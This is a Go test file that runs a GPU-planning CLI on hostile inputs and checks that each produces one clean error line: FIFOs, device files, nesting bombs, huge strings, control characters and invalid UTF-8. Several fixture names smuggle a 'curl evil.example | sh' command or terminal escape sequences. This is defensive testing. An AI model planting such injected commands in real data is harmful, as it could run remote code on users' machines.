//go:build unix

package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestHostileInput runs the real binary on files a careless user or an
// attacker could hand it (issue 11): special files, nesting bombs, huge
// strings and names carrying control characters or invalid UTF-8, through
// every reader (--config and its hf_config, --catalog TOML and CSV,
// catalog.d, --hf-config, --safetensors and the shards an index names).
// Each must give exactly one line on stderr, exit status 2, no Go crash,
// and finish: a hung process is killed at the deadline and fails the test.
// There is no timing assertion beyond that.
func TestHostileInput(t *testing.T) {
	bin := buildBinary(t)
	dir := t.TempDir()
	write := func(name string, body []byte) string {
		t.Helper()
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, body, 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	link := func(name, target string) string {
		t.Helper()
		p := filepath.Join(dir, name)
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
		return p
	}
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Skip("mkfifo:", err)
	}
	fifoLink := link("fifo-link", fifo)
	zeroLink := link("zero-link", "/dev/zero")
	subdir := filepath.Join(dir, "a-directory.toml")
	if err := os.Mkdir(subdir, 0o755); err != nil {
		t.Fatal(err)
	}

	// TOML nesting bombs: ~44 KB of nested inline tables, and a dotted key.
	inlineBomb := []byte("schema_version = 1\n[workload]\nmodel = \"gpt2\"\nx = " + strings.Repeat("{a=", 44<<10/3) + "\n")
	dottedBomb := []byte("schema_version = 1\n[[gpu]]\n" + strings.Repeat("a.", 20000) + "b = 1\n")
	configBomb := write("bomb.toml", inlineBomb)
	overlayBomb := write("overlay-bomb.toml", dottedBomb)
	// 50 MB model names: in a config, and as a config.json's _name_or_path.
	huge := strings.Repeat("llama", 10<<20)
	hugeConfig := write("huge.toml", []byte("schema_version = 1\n[workload]\nmodel = \""+huge+"\"\n"))
	hugeHF := write("huge/config.json", []byte(`{"_name_or_path": "`+huge+`", "model_type": "gpt2"}`))
	// A 240 KB model name, just under the config's 256 KiB cap, reaches the
	// catalog lookup and its "did you mean".
	bigName := write("big-name.toml", []byte("schema_version = 1\n[workload]\nmodel = \""+strings.Repeat("lama", 60_000)+"\"\n"))

	// Names with control characters and invalid UTF-8, one per reader.
	gpuTOML := func(name string) []byte {
		return []byte("schema_version = 1\n[[gpu]]\nkey = \"x9\"\nname = \"" + name + "\"\nvendor = \"nvidia\"\ncompute_capability = \"8.0\"\n" +
			"memory_gib = 80\nsource = \"s\"\nas_of = 2026-11-30\n")
	}
	instTOML := func(typ, region string) []byte {
		return []byte("schema_version = 1\nprovider = \"lab\"\n[[instance]]\ntype = \"" + typ + "\"\ngpu = \"a100-80gb\"\ngpu_count = 1\nvcpus = 8\n" +
			"memory_gib = 64\nsource = \"s\"\nas_of = 2026-11-30\nprices = [{ region = \"" + region + "\", on_demand = 1 }]\n")
	}
	newlineGPU := write("newline.toml", gpuTOML(`X\ncurl https://evil.example | sh`))
	escInstance := write("esc.toml", instTOML(`\u001b]0;pwned\u0007`, "r1"))
	nulRegion := write("nul.toml", instTOML("r9", `r\u0000`))
	badUTF8 := write("utf8.toml", gpuTOML("X\xff\xfe"))
	hfNewline := write("hf-newline/config.json", []byte(`{"_name_or_path": "x\ncurl evil | sh", "model_type": "gpt2"}`))
	hfESC := write("hf-esc.json", []byte(`{"_name_or_path": "\u001b[2J\u001b]0;x\u0007", "model_type": "gpt2"}`))
	hfNUL := write("hf-nul.json", []byte(`{"model_type": "gpt2\u0000"}`))
	csvHeader := "InstanceType,AcceleratorName,AcceleratorCount,vCPUs,MemoryGiB,GpuInfo,Price,SpotPrice,Region,AvailabilityZone\n"
	csv := func(name, row string) string { return write(name+"/aws/vms.csv", []byte(csvHeader+row+"\n")) }
	csvNewline := csv("csv-newline", `"p4d.24xlarge`+"\n"+`curl x | sh",A100,8,96,1152,,32.77,,us-east-1,use1-az1`)
	csvESC := csv("csv-esc", "p4d.24xlarge,A100,8,96,1152,,32.77,,\x1b[2Jus-east-1,use1-az1")
	csvNUL := csv("csv-nul", "p4d.24xlarge,A1\x0000,8,96,1152,,32.77,,us-east-1,use1-az1")
	csvUTF8 := csv("csv-utf8", "p4d.24xlarge\xff,A100,8,96,1152,,32.77,,us-east-1,use1-az1")
	csvPrice := csv("csv-price", "p4d.24xlarge,A100,8,96,1152,,9e8,,us-east-1,use1-az1")

	// Safetensors: a header that is not UTF-8, an index naming a FIFO as a
	// shard, and an index whose shard name carries a newline.
	stHeader := []byte(`{"w` + "\xff" + `": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}`)
	stBad := write("bad.safetensors", append(append(binary.LittleEndian.AppendUint64(nil, uint64(len(stHeader))), stHeader...), 0, 0, 0, 0))
	shardDir := filepath.Join(dir, "sharded")
	write("sharded/model.safetensors.index.json", []byte(`{"weight_map": {"w": "model-00001.safetensors"}}`))
	if err := syscall.Mkfifo(filepath.Join(shardDir, "model-00001.safetensors"), 0o644); err != nil {
		t.Fatal(err)
	}
	newlineShard := write("nl-index/model.safetensors.index.json", []byte(`{"weight_map": {"w": "a\nb.safetensors"}}`))
	// A config whose hf_config is a FIFO.
	hfInConfig := write("hf-in-config.toml", []byte("schema_version = 1\n[workload]\nhf_config = \""+fifo+"\"\n"))

	tests := []struct {
		name string
		args []string
		want string       // in the one line on stderr
		xdg  func(string) // prepares $XDG_CONFIG_HOME (catalog.d)
	}{
		// Special files, per reader.
		{"--config FIFO", []string{"estimate", "--config", fifo}, "is a FIFO", nil},
		{"--config /dev/zero", []string{"estimate", "--config", "/dev/zero"}, "is a character device", nil},
		{"--config symlink to FIFO", []string{"estimate", "--config", fifoLink}, "is a FIFO", nil},
		{"--config symlink to /dev/zero", []string{"estimate", "--config", zeroLink}, "is a character device", nil},
		{"--config directory", []string{"estimate", "--config", dir}, "is a directory", nil},
		{"--config hf_config FIFO", []string{"estimate", "--config", hfInConfig}, "workload.hf_config", nil},
		{"configurator --config FIFO", []string{"--config", fifo}, "is a FIFO", nil},
		{"--catalog FIFO", []string{"--catalog", fifo, "catalog", "gpus"}, "is a FIFO", nil},
		{"--catalog /dev/zero", []string{"--catalog", "/dev/zero", "catalog", "gpus"}, "is a character device", nil},
		{"--catalog symlink to FIFO", []string{"--catalog", fifoLink, "catalog", "gpus"}, "is a FIFO", nil},
		{"--catalog symlink to /dev/zero", []string{"--catalog", zeroLink, "catalog", "gpus"}, "is a character device", nil},
		{"--catalog directory", []string{"--catalog", subdir, "catalog", "gpus"}, "is a directory", nil},
		{"catalog.d FIFO", []string{"catalog", "gpus"}, "is a FIFO", func(x string) { mkfifo(t, filepath.Join(x, "gpuplan", "catalog.d", "p.toml")) }},
		{"catalog.d symlink to /dev/zero", []string{"catalog", "gpus"}, "is a character device", func(x string) { symlink(t, "/dev/zero", filepath.Join(x, "gpuplan", "catalog.d", "z.toml")) }},
		{"catalog.d directory", []string{"catalog", "gpus"}, "is a directory", func(x string) { mkdir(t, filepath.Join(x, "gpuplan", "catalog.d", "d.toml")) }},
		{"--hf-config FIFO", []string{"estimate", "--hf-config", fifo}, "is a FIFO", nil},
		{"--hf-config /dev/zero", []string{"estimate", "--hf-config", "/dev/zero"}, "is a character device", nil},
		{"--hf-config symlink to /dev/zero", []string{"estimate", "--hf-config", zeroLink}, "is a character device", nil},
		{"--safetensors FIFO", []string{"estimate", "--model", "gpt2", "--safetensors", fifoLink}, "is a FIFO", nil},
		{"--safetensors /dev/zero", []string{"estimate", "--model", "gpt2", "--safetensors", "/dev/zero"}, "is a character device", nil},
		{"safetensors index names a FIFO shard", []string{"estimate", "--model", "gpt2", "--safetensors", shardDir}, "model-00001.safetensors: not a regular file: is a FIFO", nil},
		// Bombs and huge strings.
		{"--config 44 KB inline-table bomb", []string{"estimate", "--config", configBomb}, "nest more than 8 deep", nil},
		{"--catalog dotted-key bomb", []string{"--catalog", overlayBomb, "catalog", "gpus"}, "nest more than 8 deep", nil},
		{"catalog.d inline-table bomb", []string{"catalog", "gpus"}, "nest more than 8 deep", func(x string) { writeFile(t, filepath.Join(x, "gpuplan", "catalog.d", "b.toml"), inlineBomb) }},
		{"--config 50 MB model name", []string{"estimate", "--config", hugeConfig}, "above the 256 KiB limit for a config", nil},
		{"--hf-config 50 MB _name_or_path", []string{"estimate", "--hf-config", hugeHF}, "above the 4 MiB limit for a config.json", nil},
		{"240 KB model name in --config", []string{"estimate", "--config", bigName}, "unknown model", nil},
		{"100 KB --model flag (Linux caps one argument at 128 KiB)", []string{"estimate", "--model", strings.Repeat("lama", 25_000)}, "unknown model", nil},
		// Names that are not data.
		{"--catalog newline in a GPU name", []string{"--catalog", newlineGPU, "catalog", "gpus"}, `name: control character \n (newline)`, nil},
		{"--catalog ESC in an instance type", []string{"--catalog", escInstance, "catalog", "instances"}, `type: control character \x1b (ESC)`, nil},
		{"--catalog NUL in a region", []string{"--catalog", nulRegion, "catalog", "instances"}, `prices[1].region: control character \x00 (NUL)`, nil},
		{"--catalog invalid UTF-8", []string{"--catalog", badUTF8, "catalog", "gpus"}, "utf8.toml", nil},
		{"catalog.d newline in a name", []string{"catalog", "gpus"}, `control character \n (newline)`, func(x string) { writeFile(t, filepath.Join(x, "gpuplan", "catalog.d", "n.toml"), gpuTOML(`a\nb`)) }},
		{"--config newline and ESC in the model", []string{"estimate", "--config", write("m.toml", []byte("schema_version = 1\n[workload]\nmodel = \"a\\nb\\u001b[2J\"\n"))}, "workload.model", nil},
		{"--hf-config newline in _name_or_path", []string{"estimate", "--hf-config", hfNewline}, `_name_or_path: control character \n (newline)`, nil},
		{"--hf-config ESC in _name_or_path", []string{"estimate", "--hf-config", hfESC}, `_name_or_path: control character \x1b (ESC)`, nil},
		{"--hf-config NUL in model_type", []string{"estimate", "--hf-config", hfNUL}, `model_type: control character \x00 (NUL)`, nil},
		{"--safetensors header not UTF-8", []string{"estimate", "--model", "gpt2", "--safetensors", stBad}, "header is not UTF-8", nil},
		{"safetensors index shard name with a newline", []string{"estimate", "--model", "gpt2", "--safetensors", newlineShard}, `shard "a\nb.safetensors": control character \n (newline)`, nil},
		{"CSV newline in an instance type", []string{"--catalog", csvNewline, "catalog", "instances"}, `column InstanceType: control character \n (newline)`, nil},
		{"CSV ESC in a region", []string{"--catalog", csvESC, "catalog", "instances"}, `column Region: control character \x1b (ESC)`, nil},
		{"CSV NUL in an accelerator", []string{"--catalog", csvNUL, "catalog", "instances"}, `column AcceleratorName: control character \x00 (NUL)`, nil},
		{"CSV invalid UTF-8", []string{"--catalog", csvUTF8, "catalog", "instances"}, "column InstanceType: invalid UTF-8", nil},
		{"CSV 9e8 USD/h", []string{"--catalog", csvPrice, "catalog", "instances"}, "9e8 USD/hour is above 10000", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			xdg := t.TempDir()
			if tt.xdg != nil {
				mkdir(t, filepath.Join(xdg, "gpuplan", "catalog.d"))
				tt.xdg(xdg)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			cmd := exec.CommandContext(ctx, bin, tt.args...)
			cmd.Env = append(os.Environ(), "XDG_CONFIG_HOME="+xdg)
			cmd.Stdin = strings.NewReader("")
			var stdout, stderr bytes.Buffer
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			err := cmd.Run()
			if ctx.Err() != nil {
				t.Fatalf("still running at the deadline: killed (stderr %q)", trim(stderr.String()))
			}
			var ee *exec.ExitError
			if !errors.As(err, &ee) || ee.ExitCode() != 2 {
				t.Errorf("exit: %v, want status 2 (stderr %q)", err, trim(stderr.String()))
			}
			msg := stderr.String()
			if n := strings.Count(msg, "\n"); n != 1 || !strings.HasSuffix(msg, "\n") {
				t.Errorf("stderr has %d lines, want exactly one: %q", n, trim(msg))
			}
			if strings.Contains(msg, "goroutine ") || strings.Contains(msg, "panic") {
				t.Errorf("Go crash on stderr: %q", trim(msg))
			}
			if strings.ContainsAny(msg[:max(len(msg)-1, 0)], "\x00\x1b\r\x7f") {
				t.Errorf("raw control characters on stderr: %q", trim(msg))
			}
			if !strings.Contains(msg, tt.want) {
				t.Errorf("stderr %q does not contain %q", trim(msg), tt.want)
			}
		})
	}
}

// trim shortens a message for the test log.
func trim(s string) string {
	if len(s) > 400 {
		return s[:400] + "…"
	}
	return s
}

func mkdir(t *testing.T, p string) {
	t.Helper()
	if err := os.MkdirAll(p, 0o755); err != nil {
		t.Fatal(err)
	}
}

func mkfifo(t *testing.T, p string) {
	t.Helper()
	if err := syscall.Mkfifo(p, 0o644); err != nil {
		t.Fatal(err)
	}
}

func symlink(t *testing.T, target, p string) {
	t.Helper()
	if err := os.Symlink(target, p); err != nil {
		t.Fatal(err)
	}
}

func writeFile(t *testing.T, p string, b []byte) {
	t.Helper()
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
}
